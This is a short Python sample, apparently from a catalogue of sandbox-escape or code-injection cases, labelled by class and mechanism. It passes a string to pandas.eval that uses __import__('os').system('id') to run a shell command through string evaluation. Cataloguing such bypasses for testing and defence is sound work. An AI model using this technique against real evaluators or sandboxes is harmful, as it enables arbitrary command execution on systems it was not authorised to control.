# class: string-code
# mechanism: import function in a text
# reaches: os
import pandas as pd
pd.eval("__import__('os').system('id')")
